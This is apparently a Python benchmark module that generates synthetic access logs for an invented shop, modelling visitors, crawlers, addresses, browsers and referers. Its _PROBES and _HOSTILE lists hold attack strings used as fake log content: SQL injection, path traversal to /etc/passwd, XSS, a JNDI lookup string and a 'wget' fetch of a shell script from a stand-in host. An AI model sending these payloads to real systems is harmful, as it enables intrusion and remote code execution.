"""What visitors and crawlers of an invented shop ask for, as lines of any format.

Visits are the unit: a visitor comes with one address and one browser, asks for pages and what belongs to them, goes,
and may come back. Crawlers are few and steady. So the share of distinct values is right over the whole log and over
any part of it, which is what caches and dictionaries feel.
Only exact arithmetic is used (no logarithm, no power), so that the bytes do not depend on the machine.
"""

from __future__ import annotations

from dataclasses import dataclass
from functools import cache, partial
from typing import TYPE_CHECKING, TypeAlias

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

from benchmarks.browsers import COMMON, CRAWLERS, QUOTED, rare
from benchmarks.servers import digits, mix, written
from benchmarks.shapes import SHAPES

if TYPE_CHECKING:
    from collections.abc import Sequence
    from datetime import date

    from benchmarks.shapes import Escape, Shape

Ints: TypeAlias = np.ndarray[tuple[int], np.dtype[np.int64]]
Bools: TypeAlias = np.ndarray[tuple[int], np.dtype[np.bool_]]
Rng: TypeAlias = np.random.Generator
Floats: TypeAlias = np.ndarray[tuple[int], np.dtype[np.float64]]

_NOISE_EVERY = 20_000
"""One line in so many is TLS spoken to a plain port."""
_QUOTED_EVERY, _QUOTED_FIRST = 15_000, 4_321
"""One line in so many has quotes in its user agent."""
NEVER = 2**40
_HOSTS = tuple(f"{name}.shop.example" for name in ("www", "m", "api", "static"))
_CRAWLER_ADDRESSES = 400
_ITEMS = 20_000
_SITE = "https://www.shop.example"

_WORDS = """
amber anvil apron basin birch bottle brush candle canvas cedar chair clay copper cotton cradle desk drawer felt fern
frame glass hammer hinge ivory jar kettle lamp linen maple mirror mug nail oak olive paint pillow plate quilt rope rug
saw shelf silk spoon stool table tile tray vase wax wicker wool
""".split()  # noqa: SIM905 — one word per line would be a page
_PAGES = (
    "/",
    *(f"/{a}/{b}" for a in _WORDS[:40] for b in _WORDS),
    "/cart",
    "/login",
    "/account/orders",
)
_ASSETS = tuple(
    f"/static/{word}.{number * 2_654_435_761 % 2**32:08x}.{end}"
    for number, word in enumerate(_WORDS)
    for end in ("css", "js", "svg", "woff2")
)
_PROBES = """
/wp-login.php /.env /.git/config /phpmyadmin/index.php /xmlrpc.php /admin/config.php /backup.zip /actuator/env
/index.php?id=1%27%20OR%20%271%27=%271 /static/..%2f..%2f..%2fetc/passwd /solr/admin/info/system /cgi-bin/luci
""".split()  # noqa: SIM905 — one word per line would be a page
_SEARCHES = tuple(f"{a}+{b}" for a in _WORDS for b in _WORDS)

_HOSTILE = """
%27%20UNION%20SELECT%20 ..%2f..%2f %3Cscript%3Ealert(1)%3C/script%3E ${jndi:ldap://x.example/a} %00 %c0%ae%c0%ae/ etc/passwd
cmd=cat+ |id; AND+1=1-- %252e%252e%252f base64,PD9waHA= sleep(10) 0x3c3f706870 {{7*7}} ;wget+http://x.example/b.sh
""".split()  # noqa: SIM905 — one word per line would be a page


@dataclass(frozen=True, slots=True)
class Profile:
    """What kind of traffic a log holds, as shares of its lines unless said otherwise.

    Args:
        addresses: Distinct client addresses.
        agents: Distinct user agents; fewer than addresses.
        ipv6: Share of the *visitors* that come over IPv6.
        crawled: Lines that crawlers cause.
        visit: Lines of a mean visit.
        hostile: Lines whose target is a long attack, no two alike.
        broken_every: One line in so many breaks off behind its user agent; `NEVER` for none.
        shape: The format.
    """

    addresses: float = 0.02
    agents: float = 0.005
    ipv6: float = 0.3
    crawled: float = 0.24
    visit: float = 24.0
    hostile: float = 0.0
    broken_every: int = 50_000
    shape: Shape = SHAPES["combined"]

    def unreadable(self, lines: int) -> int:
        """How many of the first lines do not fit the format."""
        broken = _one_in(self.broken_every, self.broken_every // 2, lines)
        return broken + (0 if self.shape.quotes else _one_in(_QUOTED_EVERY, _QUOTED_FIRST, lines))


def _one_in(every: int, first: int, lines: int) -> int:
    return (lines - first - 1) // every + 1


PROFILES: dict[str, Profile] = {
    "typical": Profile(),
    "botnet": Profile(addresses=0.5, ipv6=0.7, crawled=0.05, visit=2.0),
    "attack": Profile(hostile=0.4, broken_every=10),
    "json": Profile(shape=SHAPES["escape_json"]),
    "vhost": Profile(shape=SHAPES["vhost_combined"]),
}


@dataclass(frozen=True, slots=True)
class _Asked:
    """One kind of target: its share of the lines in 1000, how it is made, the size of its answer."""

    share: float
    prefix: str
    drawn: Sequence[str] | int | None = None
    suffix: str = ""
    size: int = 10_000
    referer: str = "none"


# A target is a prefix, what is drawn (from a list, or a number below a bound, or a UUID), and a suffix.
_TARGETS = (
    _Asked(300, "", _ASSETS, size=40_000, referer="page"),
    _Asked(290, "", _PAGES, size=16_000, referer="entry"),
    _Asked(160, "/item/", _ITEMS, size=14_000, referer="entry"),
    _Asked(100, "/img/item/", _ITEMS, "-320.webp", size=21_000, referer="item"),
    _Asked(30, "/item/", _ITEMS, "/reviews?page=2&sort=new", size=9_000, referer="item"),
    _Asked(55, "/search?q=", _SEARCHES, size=11_000, referer="page"),
    _Asked(20, "/search?q=", _SEARCHES, "&sort=price&page=3", size=11_000, referer="page"),
    _Asked(20, "/api/v2/orders/", None, size=900, referer="page"),
    _Asked(15, "/api/v2/items/", _ITEMS, "/stock?fields=count,store", size=240, referer="item"),
    _Asked(5, "/checkout/", None, "/confirm", size=4_400, referer="page"),
    _Asked(5, "", _PROBES, size=1_245),
)
_PROBING = len(_TARGETS) - 1
_ENTRIES = (
    "https://www.google.com/",
    "https://www.bing.com/",
    "https://duckduckgo.com/",
    "https://m.facebook.com/",
)
_REFERERS = (*_ENTRIES, *(_SITE + page for page in _PAGES), *(f"{_SITE}/search?q={words}" for words in _SEARCHES[:1_500]))  # fmt: skip


def chunk(profile: Profile, number: int, seconds: Ints, *, seed: int, first: date) -> memoryview:
    """Some lines of a log, each ended.

    Args:
        profile: What kind of traffic.
        number: Which chunk of the log this is; all chunks but the last have the same number of lines.
        seconds: When each line was written, in seconds from the start of the log; ascending.
        seed: Another seed gives another log of the same kind.
        first: The first day of the log, UTC.
    """
    lines = len(seconds)
    rng = Rng(np.random.PCG64([seed, number]))
    crawled, clients = _clients(profile, number, lines, rng)
    row = np.arange(lines) + number * lines
    noise = row % _NOISE_EVERY == 777
    asked = _draw(_cumulated(tuple(target.share for target in _TARGETS)), rng.random(lines))
    status = np.where(noise, 400, _status(asked, rng.random(lines)))
    shape = profile.shape
    missing, escape = shape.missing, shape.escape
    method, protocol = _methods(asked, crawled, rng.random(lines))
    target = _target(asked, escape, rng)
    if profile.hostile:
        target = _attacked(target, rng.random(lines) < profile.hostile, escape, rng)
    size = _sizes(asked, status, rng.random(lines))
    values = {
        "address": _addresses(clients, crawled, profile.ipv6),
        "user": _taken((missing, "marlow"), (row % 997 == 13).astype(np.int64)),
        "host": _taken(_HOSTS, row % len(_HOSTS)),
        "method": method,
        "target": target,
        "protocol": protocol,
        "status": digits(status),
        "bytes": digits(size),
        "sent": digits(size + 320),
        "referer": _referer(asked, crawled | noise, shape, rng),
        "agent": _agents(clients, crawled, profile, row % _QUOTED_EVERY == _QUOTED_FIRST),
    }
    told = partial(_told, values=values, noise=pa.array(noise), shape=shape)
    parts = [
        part if place % 2 == 0
        else told(part) if part in _TOLD
        else values[part] if part in values
        else written(part, row, seconds, first)
        for place, part in enumerate(shape.parts)
    ]  # fmt: skip
    if shape.cut < len(parts):
        whole = pa.array(row % profile.broken_every != profile.broken_every // 2)
        behind = pc.binary_join_element_wise(*parts[shape.cut :], "")
        parts[shape.cut :] = [pc.if_else(whole, behind, "\n")]
    joined = pc.binary_join_element_wise(*parts, "")
    return memoryview(joined.buffers()[2])[: pc.sum(pc.binary_length(joined)).as_py()]


_TOLD = frozenset(
    ("request", "absolute", "method", "target", "url", "path", "query", "protocol", "peer")
)


def _told(name: str, values: dict[str, pa.Array], noise: pa.Array, shape: Shape) -> pa.Array:
    """A value that is made of others; what the server could not read is missing."""
    join = pc.binary_join_element_wise
    method, target, protocol = (values[part] for part in ("method", "target", "protocol"))
    if name == "peer":
        # an IPv6 address stands in brackets before a port
        address = values["address"]
        return pc.if_else(pc.match_substring(address, ":"), join("[", address, "]", ""), address)
    if name in ("url", "absolute"):
        target = join("https://", values["host"], target, "")
    if name in ("request", "absolute"):
        return pc.if_else(noise, shape.unread, join(method, target, protocol, " "))
    if name in ("path", "query"):
        parted = pc.extract_regex(target, r"^(?P<path>[^?]*)\??(?P<query>.*)$")
        part = pc.struct_field(parted, name)
        return pc.if_else(pc.or_(noise, pc.equal(part, "")), shape.missing, part)
    return pc.if_else(noise, shape.missing, target if name == "url" else values[name])


@cache
def _cumulated(shares: tuple[float, ...]) -> Floats:
    sums = np.cumsum(np.array(shares, np.float64))
    return np.asarray(sums / sums[-1])


@cache
def _zipf(size: int) -> Floats:
    """Cumulative shares of `size` values, the k-th in proportion to 1 / (k + 2)."""
    return _cumulated(tuple(1.0 / (k + 2) for k in range(1, size + 1)))


def _draw(cumulated: Floats, chance: Floats) -> Ints:
    return np.searchsorted(cumulated, chance, side="right").astype(np.int64)


def _taken(texts: Sequence[str], codes: Ints) -> pa.Array:
    return pa.array(texts, pa.string()).take(pa.array(codes))


def _clients(profile: Profile, number: int, lines: int, rng: Rng) -> tuple[Bools, Ints]:
    """Who wrote each line: whether it was a crawler, and its number among crawlers or among visitors."""
    fresh, by_crawlers = round(profile.addresses * lines), int(profile.crawled * lines)
    visited = lines - by_crawlers
    visits = max(fresh, round(visited / profile.visit))
    known = (number + 1) * fresh
    # Who comes back came lately rather than long ago.
    chance = rng.random(visits - fresh)
    back = known - 1 - (known * chance * chance).astype(np.int64)
    visitors = np.concatenate([np.arange(known - fresh, known), back])
    chance = rng.random(visits)
    lengths = 1 + (5 * (visited / visits - 1) * chance * chance * chance * chance).astype(np.int64)
    visit = np.repeat(np.arange(visits), lengths)[:visited]
    more = (rng.random(visited - len(visit)) * visits).astype(np.int64)
    visit = np.concatenate([visit, more])
    # A visit is a few pages apart in time, each with what belongs to it.
    page = np.floor(rng.random(visited) * 6) * (lines / 120)
    begin = rng.random(visits) * lines
    place = (begin[visit] + page + rng.random(visited) * 30) % lines
    crawler = _draw(_zipf(_CRAWLER_ADDRESSES), rng.random(by_crawlers))
    order = np.argsort(np.concatenate([place, rng.random(by_crawlers) * lines]), kind="stable")
    return order >= visited, np.concatenate([visitors[visit], crawler])[order]


def _addresses(clients: Ints, crawled: Bools, ipv6: float) -> pa.Array:
    """Each client has one address; crawlers take theirs from the end of 10.0.0.0/8, where visitors come last."""
    distinct, codes = np.unique(np.where(crawled, -1 - clients, clients), return_inverse=True)
    bits = mix(distinct).tolist()
    within = mix(distinct + 2**32).tolist()
    bound = int(ipv6 * 2**16)
    texts = [
        f"2001:db8:{high >> 48:x}:{high >> 32 & 0xFFFF:x}:{low >> 48:x}:{low >> 32 & 0xFFFF:x}:{low >> 16 & 0xFFFF:x}:{low & 0xFFFF:x}"
        if client >= 0 and high & 0xFFFF < bound
        else _dotted(client)
        for client, high, low in zip(distinct.tolist(), bits, within, strict=True)
    ]
    return _taken(texts, codes)


def _dotted(client: int) -> str:
    # An odd factor maps 24 bits onto themselves: distinct clients have distinct addresses, far apart.
    place = client * 10_368_889 % 2**24
    return f"10.{place >> 16}.{place >> 8 & 255}.{place & 255}"


def _status(asked: Ints, chance: Floats) -> Ints:
    fetched = np.isin(asked, (0, 3))
    cases = [
        asked == _PROBING,
        *(fetched & (chance < bound) for bound in (0.11, 0.12, 1.0)),
        *(chance < bound for bound in (0.03, 0.06, 0.0605, 0.0608)),
    ]
    return np.select(cases, [404, 304, 206, 200, 301, 404, 500, 403], 200)


def _sizes(asked: Ints, status: Ints, chance: Floats) -> Ints:
    mean = np.array([target.size for target in _TARGETS])[asked]
    fixed = np.zeros(600, np.int64)
    fixed[[301, 400, 403, 404, 500]] = (178, 157, 548, 1_245, 497)
    varied = (mean // 2 + mean * chance * chance * 1.5).astype(np.int64)
    return np.where(np.isin(status, (200, 206)), varied, fixed[status])


def _methods(asked: Ints, crawled: Bools, chance: Floats) -> tuple[pa.Array, pa.Array]:
    """What stands before and after the target."""
    posted = np.isin(asked, (7, 9)) & (chance < 0.6)
    method = np.select([posted, crawled & (chance < 0.02)], [1, 2], 0)
    protocol = np.select([chance < 0.02, crawled | (chance < 0.15)], [2, 1], 0)
    return _taken(("GET", "POST", "HEAD"), method), _taken(("HTTP/2.0", "HTTP/1.1", "HTTP/1.0"), protocol)  # fmt: skip


def _numbers(chance: Floats) -> pa.Array:
    """Numbers of items, the low ones asked for most."""
    return digits((chance * chance * chance * _ITEMS).astype(np.int64))


def _drawn(target: _Asked, count: int, escape: Escape, rng: Rng) -> pa.Array:
    if target.drawn is None:
        text = rng.bytes(16 * count).hex()
        cut = [text[at : at + 32] for at in range(0, len(text), 32)]
        return pa.array(
            [f"{t[:8]}-{t[8:12]}-4{t[13:16]}-a{t[17:20]}-{t[20:]}" for t in cut], pa.string()
        )
    if isinstance(target.drawn, int):
        return _numbers(rng.random(count))
    texts = [escape(text) for text in target.drawn]
    return _taken(texts, _draw(_zipf(len(texts)), rng.random(count)))


def _target(asked: Ints, escape: Escape, rng: Rng) -> pa.Array:
    order = np.argsort(asked, kind="stable")
    counts = np.bincount(asked, minlength=len(_TARGETS))
    drawn = [
        _drawn(target, int(count), escape, rng)
        for target, count in zip(_TARGETS, counts, strict=True)
    ]
    back = np.empty(len(asked), np.int64)
    back[order] = np.arange(len(asked))
    return pc.binary_join_element_wise(
        _taken([escape(target.prefix) for target in _TARGETS], asked),
        pa.concat_arrays(drawn).take(pa.array(back)),
        _taken([escape(target.suffix) for target in _TARGETS], asked),
        "",
    )


def _attacked(target: pa.Array, hostile: Bools, escape: Escape, rng: Rng) -> pa.Array:
    """The targets, some of them replaced by one and a half kilobytes of attacks on average."""
    counts = np.where(hostile, rng.integers(20, 180, len(hostile)), 0)
    offsets = np.concatenate([[0], np.cumsum(counts)]).astype(np.int32)
    texts = [escape(text) for text in _HOSTILE]
    pieces = _taken(texts, rng.integers(0, len(texts), int(offsets[-1])))
    text = pc.binary_join(pa.ListArray.from_arrays(pa.array(offsets), pieces), "")
    attack = pc.binary_join_element_wise("/index.php?id=", text, "")
    return pc.if_else(pa.array(hostile), attack, target)


def _referer(asked: Ints, silent: Bools, shape: Shape, rng: Rng) -> pa.Array:
    chance, again = rng.random(len(asked)), rng.random(len(asked))
    kind = np.array(
        [("none", "entry", "item", "page").index(target.referer) for target in _TARGETS]
    )[asked]
    none = silent | (kind == 0) | ((kind == 1) & (chance < 0.5))
    entered = ~none & (kind == 1) & (chance < 0.7)
    item = ~none & (kind == 2)
    pages = len(_REFERERS) - len(_ENTRIES)
    entry = 2 + (again * len(_ENTRIES)).astype(np.int64)
    page = 2 + len(_ENTRIES) + _draw(_zipf(pages), again)
    code = np.where(none, 0, np.where(item, 1, np.where(entered, entry, page)))
    numbers = pc.if_else(pa.array(item), _numbers(again), "")
    texts = (shape.missing, *map(shape.escape, (f"{_SITE}/item/", *_REFERERS)))
    return pc.binary_join_element_wise(_taken(texts, code), numbers, "")


def _agents(clients: Ints, crawled: Bools, profile: Profile, quoted: Bools) -> pa.Array:
    """A visitor has one browser: every so many has a rare one, the others share the common ones."""
    every = max(1, round(profile.addresses / profile.agents))
    chance = (mix(clients + 2**33) >> np.uint64(11)).astype(np.float64) / 2.0**53
    shared = len(CRAWLERS) + _draw(_zipf(len(COMMON)), chance)
    fixed = len(CRAWLERS) + len(COMMON) + 1
    code = np.where(clients % every == 0, fixed + clients // every, shared)
    code = np.where(quoted, fixed - 1, np.where(crawled, clients % len(CRAWLERS), code))
    distinct, codes = np.unique(code, return_inverse=True)
    texts = (*CRAWLERS, *COMMON, QUOTED)
    said = [texts[n] if n < fixed else rare(n - fixed) for n in distinct.tolist()]
    return _taken([profile.shape.escape(text) for text in said], codes)
